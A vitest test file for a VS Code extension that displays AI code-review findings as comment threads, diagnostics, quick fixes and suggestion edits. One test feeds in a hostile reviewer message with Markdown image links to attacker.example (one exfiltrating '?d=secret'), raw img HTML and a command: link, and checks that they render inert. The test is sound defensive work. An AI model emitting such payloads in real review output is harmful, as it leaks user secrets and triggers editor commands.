// What the editor shows of a review finding: its comment thread (label, buttons by contextValue,
// Markdown), its problem (severity, source, code), the Apply Suggestion edit (and its refusal when
// the code changed), and what a review's answer does and says.
import { marked, type Token } from 'marked';
import { describe, expect, it } from 'vitest';
import type { StoredFinding } from '../../client/src/review/findingsStore';
import { byFolder, findingIdOf, replacedBy, reviewMessage, selectionLines, toReviewFinding, toStoredFindings } from '../../client/src/review/reviewOutcome';
import { suggestionEdit } from '../../client/src/review/suggestion';
import { diagnosticSpec, diagnosticSpecs, quickFixSpecs, threadSpec, threadSpecs } from '../../client/src/review/threadSpecs';
import { linesOf, trackChanges } from '../../client/src/review/tracking';

/** Two workspace folders, as findings name them (`uri.toString()`). */
const WEB = 'file:///work/web';
const API = 'file:///work/api';

const FILE = ['function total(items) {', '  let sum = 0;', '  if (items.length = 0) {', '    return 0;', '  }', '  return sum;', '}'].join('\n');

const bug: StoredFinding = {
  id: '3f9a1c0b7d2e4a61',
  folder: WEB,
  file: 'src/cart.ts',
  startLine: 3,
  endLine: 4,
  severity: 'high',
  category: 'bug',
  message: '`items.length = 0` assigns instead of comparing.',
  suggestion: '  if (items.length === 0) {\n    return 0;',
  anchor: '  if (items.length = 0) {\n    return 0;',
  agent: 'code-reviewer',
  reviewedText: '  if (items.length = 0) {\n    return 0;',
};
const withoutSuggestion: StoredFinding = { ...bug };
delete withoutSuggestion.suggestion;

/** The types of Markdown tokens, nested ones included, as marked (VS Code's Markdown parser) reads them. */
function tokenTypes(tokens: readonly Token[]): string[] {
  return tokens.flatMap((token) => [token.type, ...('tokens' in token && token.tokens ? tokenTypes(token.tokens) : [])]);
}

/** Markdown as HTML, as marked renders it. */
function rendered(markdown: string): string {
  return marked.parse(markdown, { async: false });
}

describe('comment threads', () => {
  it('one thread per finding on its lines, labelled MOCO · severity · category, by the agent', () => {
    const spec = threadSpec(bug);
    expect(spec).toMatchObject({
      findingId: bug.id,
      file: 'src/cart.ts',
      range: { startLine: 2, startCharacter: 0, endLine: 3, endCharacter: '    return 0;'.length },
      label: 'MOCO · high · bug',
      author: 'MOCO code-reviewer',
    });
    expect(threadSpecs([bug, { ...bug, id: 'b', folder: API, agent: 'security-reviewer', severity: 'critical', category: 'security' }]).map((s) => [s.folder, s.label, s.author])).toEqual([
      [WEB, 'MOCO · high · bug', 'MOCO code-reviewer'],
      [API, 'MOCO · critical · security', 'MOCO security-reviewer'],
    ]);
  });

  it('the contextValue shows Apply Suggestion only when there is a suggestion', () => {
    expect(threadSpec(bug).contextValue).toBe('moco.finding.suggestion');
    expect(threadSpec({ ...bug, suggestion: '' }).contextValue).toBe('moco.finding.suggestion');
    expect(threadSpec(withoutSuggestion).contextValue).toBe('moco.finding');
  });

  it('the comment is the message, then the suggestion in a code fence of the file’s language', () => {
    expect(threadSpec(bug).body).toBe(
      '`items.length = 0` assigns instead of comparing\\.\n\n**Suggested change:**\n\n```typescript\n  if (items.length === 0) {\n    return 0;\n```',
    );
    expect(threadSpec(withoutSuggestion).body).toBe('`items.length = 0` assigns instead of comparing\\.');
    expect(threadSpec({ ...bug, suggestion: '' }).body).toBe('`items.length = 0` assigns instead of comparing\\.\n\n**Suggested change:** delete lines 3–4.');
    expect(rendered(threadSpec(bug).body)).toBe(
      '<p><code>items.length = 0</code> assigns instead of comparing.</p>\n<p><strong>Suggested change:</strong></p>\n<pre><code class="language-typescript">  if (items.length === 0) {\n    return 0;\n</code></pre>\n',
    );
  });

  it('the reviewer’s message shows as text with its inline code: it cannot load an image, link, or make HTML', () => {
    const hostile = [
      'Leaks ![](https://attacker.example/?d=secret) and ![x][r] and ![r]',
      '',
      '[r]: https://attacker.example/ref.png',
      '<img src="https://attacker.example/i.png"> <https://attacker.example/auto> [link](command:workbench.action.reload)',
      '    indented ```fence',
      '# heading `code ![](https://attacker.example/in-code)` \\![escaped](https://attacker.example/e.png) vec![1]',
      '`unclosed ![](https://attacker.example/u.png)\r![](https://attacker.example/cr.png)`',
    ].join('\n');
    const body = threadSpec({ ...withoutSuggestion, message: hostile }).body;
    const kinds = tokenTypes(marked.lexer(body));
    expect([...new Set(kinds)].sort()).toEqual(['codespan', 'escape', 'paragraph', 'space', 'text']);
    const html = rendered(body);
    expect(html).not.toMatch(/<img|<a |<h1|<pre/);
    // What the user reads is the text as written, line by line, with the inline code as code.
    expect(html).toContain('<p>Leaks ![](https://attacker.example/?d=secret) and ![x][r] and ![r]</p>');
    expect(html).toContain('<code>code ![](https://attacker.example/in-code)</code>');
    expect(html).toContain('&lt;img src=&quot;https://attacker.example/i.png&quot;&gt;');
    expect(html).toContain('<p>`unclosed ![](https://attacker.example/u.png)</p>\n<p>![](https://attacker.example/cr.png)`</p>');
    // A suggestion is code, whatever it holds.
    const suggested = tokenTypes(marked.lexer(threadSpec({ ...bug, suggestion: '```\n![](https://attacker.example/s.png)\n<img src=x>' }).body));
    expect(suggested.filter((kind) => kind === 'image' || kind === 'html')).toEqual([]);
  });

  it('a suggestion holding backticks gets a longer fence, so it cannot close it early', () => {
    const body = threadSpec({ ...bug, file: 'README.md', suggestion: 'Run:\n```sh\nnpm test\n```' }).body;
    expect(body).toContain('\n\n````markdown\nRun:\n```sh\nnpm test\n```\n````');
  });
});

describe('problems', () => {
  it('maps the severities as protocol/review.ts says (none to hint, which the Problems panel does not list), with source MOCO review and the category as code', () => {
    const kinds = (['critical', 'high', 'medium', 'low', 'info'] as const).map((severity) => diagnosticSpec({ ...bug, severity }).severity);
    expect(kinds).toEqual(['error', 'error', 'warning', 'information', 'information']);
    expect(diagnosticSpecs([bug])).toEqual([
      {
        findingId: bug.id,
        folder: WEB,
        file: 'src/cart.ts',
        range: { startLine: 2, startCharacter: 0, endLine: 3, endCharacter: 13 },
        message: '`items.length = 0` assigns instead of comparing. (MOCO suggests a change)',
        severity: 'error',
        source: 'MOCO review',
        code: 'bug',
      },
    ]);
    expect(diagnosticSpec(withoutSuggestion).message).toBe('`items.length = 0` assigns instead of comparing.');
  });
});

describe('quick fixes', () => {
  it('run the commands on the finding by id, so that an old quick-fix menu cannot apply an edit computed before later changes', () => {
    expect(quickFixSpecs(bug, true)).toEqual([
      { title: 'Apply MOCO suggestion', command: 'moco.review.applySuggestion', arguments: [bug.id], isPreferred: true },
      { title: 'Fix with Agent', command: 'moco.review.fixWithAgent', arguments: [bug.id], isPreferred: false },
      { title: 'Dismiss finding', command: 'moco.review.dismiss', arguments: [bug.id], isPreferred: false },
    ]);
    // The command checks the lines when it runs: after an edit of them, it refuses.
    const edited = FILE.replace('items.length = 0', 'items.length == 0');
    const tracked = trackChanges([bug], [{ range: { start: { line: 2, character: 19 }, end: { line: 2, character: 20 } }, text: '==' }], linesOf(edited)).changed[0]!;
    expect(suggestionEdit(tracked, linesOf(edited), '\n').kind).toBe('refused');
  });

  it('offer Apply MOCO suggestion only when there is a suggestion that applies now', () => {
    expect(quickFixSpecs(bug, false).map((spec) => spec.title)).toEqual(['Fix with Agent', 'Dismiss finding']);
    expect(quickFixSpecs(withoutSuggestion, true).map((spec) => spec.title)).toEqual(['Fix with Agent', 'Dismiss finding']);
  });
});

describe('the Apply Suggestion edit', () => {
  it('replaces the finding’s whole lines with the suggestion', () => {
    expect(suggestionEdit(bug, linesOf(FILE), '\n')).toEqual({
      kind: 'replace',
      range: { startLine: 2, startCharacter: 0, endLine: 3, endCharacter: 13 },
      newText: '  if (items.length === 0) {\n    return 0;',
    });
  });

  it('writes the document’s CRLF line breaks', () => {
    const edit = suggestionEdit(bug, linesOf(FILE.replace(/\n/g, '\r\n')), '\r\n');
    expect(edit).toMatchObject({ kind: 'replace', newText: '  if (items.length === 0) {\r\n    return 0;' });
  });

  it('an empty suggestion deletes the lines with their line break (the one before, at the end of the file)', () => {
    expect(suggestionEdit({ ...bug, suggestion: '' }, linesOf(FILE), '\n')).toEqual({
      kind: 'replace',
      range: { startLine: 2, startCharacter: 0, endLine: 4, endCharacter: 0 },
      newText: '',
    });
    const last = { ...bug, startLine: 6, endLine: 7, anchor: '  return sum;\n}', reviewedText: '  return sum;\n}', suggestion: '' };
    expect(suggestionEdit(last, linesOf(FILE), '\n')).toEqual({
      kind: 'replace',
      range: { startLine: 4, startCharacter: 3, endLine: 6, endCharacter: 1 },
      newText: '',
    });
  });

  it('follows the finding when lines were inserted above it', () => {
    const edited = `// totals\n${FILE}`;
    const moved = trackChanges([bug], [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: '// totals\n' }], linesOf(edited)).changed[0]!;
    expect(suggestionEdit(moved, linesOf(edited), '\n')).toMatchObject({ kind: 'replace', range: { startLine: 3, endLine: 4 } });
  });

  it('refuses, rather than clobber code, when the lines changed since the review', () => {
    // The user fixed the line by hand: the tracked anchor follows, the reviewed text does not.
    const edited = FILE.replace('items.length = 0', 'items.length == 0');
    const tracked = trackChanges([bug], [{ range: { start: { line: 2, character: 19 }, end: { line: 2, character: 20 } }, text: '==' }], linesOf(edited)).changed[0]!;
    expect(tracked.anchor).toBe('  if (items.length == 0) {\n    return 0;');
    expect(suggestionEdit(tracked, linesOf(edited), '\n')).toEqual({
      kind: 'refused',
      reason: 'The suggestion for src/cart.ts was not applied: lines 3–4 changed since the review, and the suggestion was written for the code as it was. Review the file again, or use Fix with Agent.',
    });
  });

  it('refuses when the lines are out of the file, or there is no suggestion', () => {
    expect(suggestionEdit({ ...bug, startLine: 9, endLine: 10 }, linesOf(FILE), '\n')).toEqual({
      kind: 'refused',
      reason: 'The suggestion for src/cart.ts was not applied: lines 9–10 are no longer in the file (7 lines). Review the file again.',
    });
    expect(suggestionEdit(withoutSuggestion, linesOf(FILE), '\n')).toMatchObject({ kind: 'refused', reason: expect.stringContaining('has no suggested change') as unknown });
  });
});

describe('a review’s answer', () => {
  const result = { agent: 'security-reviewer', findings: [toReviewFinding(bug)], skipped: [], notes: [] };

  it('its findings are stored with their agent, folder and the reviewed text, and sent back to review/fix as they are now', () => {
    const [stored] = toStoredFindings(result, API);
    expect(stored).toEqual({ ...bug, folder: API, agent: 'security-reviewer' });
    expect(toReviewFinding({ ...stored!, startLine: 5, endLine: 6 })).toEqual({ ...toReviewFinding(bug), startLine: 5, endLine: 6 });
    expect(toReviewFinding(withoutSuggestion)).not.toHaveProperty('suggestion');
  });

  it('replaces the file’s earlier findings, the selection’s, or those of every file the changes review looked at', () => {
    const a1 = { ...bug, id: 'a1', startLine: 1, endLine: 2 };
    const a9 = { ...bug, id: 'a9', startLine: 9, endLine: 9 };
    const b = { ...bug, id: 'b', file: 'src/b.ts' };
    const c = { ...bug, id: 'c', file: 'src/c.ts' };
    const other = { ...bug, id: 'o', folder: API };
    const all = [a1, a9, b, c, other];
    const ids = (predicate: (f: StoredFinding) => boolean): string[] => all.filter(predicate).map((f) => f.id);
    expect(ids(replacedBy({ kind: 'file', folder: WEB, file: 'src/cart.ts' }, ['src/cart.ts']))).toEqual(['a1', 'a9']);
    expect(ids(replacedBy({ kind: 'selection', folder: WEB, file: 'src/cart.ts', startLine: 2, endLine: 5 }, ['src/cart.ts']))).toEqual(['a1']);
    // src/cart.ts was reviewed and has no finding now: its stale ones go too; src/c.ts was not reviewed.
    expect(ids(replacedBy({ kind: 'changes', folder: WEB }, ['src/b.ts', 'src/cart.ts']))).toEqual(['a1', 'a9', 'b']);
    expect(ids(replacedBy({ kind: 'changes', folder: WEB }, []))).toEqual([]);
    expect(ids(replacedBy({ kind: 'file', folder: API, file: 'src/cart.ts' }, ['src/cart.ts']))).toEqual(['o']);
  });

  it('says what was skipped and noted; no findings is said; findings alone need no message', () => {
    const skipped = [
      { reason: 'line 120–124 is outside src/cart.ts (7 lines)', text: '{"startLine":120}' },
      { reason: 'not valid JSON: Unexpected token', text: '{"file": ' },
    ];
    expect(reviewMessage({ ...result, skipped, notes: ['The bundled reviewer was used'] }, 'src/cart.ts')).toEqual({
      kind: 'warning',
      text: '2 findings skipped: line 120–124 is outside src/cart.ts (7 lines); not valid JSON: Unexpected token. 1 finding in src/cart.ts. The bundled reviewer was used.',
      details: [
        'Skipped finding (line 120–124 is outside src/cart.ts (7 lines)): {"startLine":120}',
        'Skipped finding (not valid JSON: Unexpected token): {"file": ',
        'Note: The bundled reviewer was used',
      ],
    });
    expect(reviewMessage({ ...result, findings: [] }, 'src/cart.ts')).toMatchObject({ kind: 'information', text: 'No findings in src/cart.ts.' });
    expect(reviewMessage(result, 'src/cart.ts')).toMatchObject({ kind: 'none' });
    expect(reviewMessage({ ...result, notes: ['The diff was cut to 400 lines.'] }, 'the changes')).toMatchObject({
      kind: 'information',
      text: '1 finding in the changes. The diff was cut to 400 lines.',
    });
  });
});

describe('command arguments', () => {
  it('a finding id, { findingId }, or one of the controller’s threads names a finding', () => {
    const thread = { uri: 'file:///a', label: 'MOCO · high · bug' };
    const lookup = (t: object): string | undefined => (t === thread ? 'from-thread' : undefined);
    expect(findingIdOf('abc', lookup)).toBe('abc');
    expect(findingIdOf({ findingId: 'def' }, lookup)).toBe('def');
    expect(findingIdOf(thread, lookup)).toBe('from-thread');
    expect(findingIdOf({}, lookup)).toBeUndefined();
    expect(findingIdOf(undefined, lookup)).toBeUndefined();
  });

  it('a selection ending at the start of a line leaves that line out', () => {
    expect(selectionLines({ line: 2, character: 4 }, { line: 5, character: 0 })).toEqual({ startLine: 3, endLine: 5 });
    expect(selectionLines({ line: 2, character: 4 }, { line: 2, character: 9 })).toEqual({ startLine: 3, endLine: 3 });
  });

  it('Fix All sends one request per workspace folder', () => {
    const groups = byFolder([bug, { ...bug, id: 'x', folder: API }, { ...bug, id: 'y' }]);
    expect([...groups].map(([folder, findings]) => [folder, findings.map((f) => f.id)])).toEqual([
      [WEB, [bug.id, 'y']],
      [API, ['x']],
    ]);
  });
});
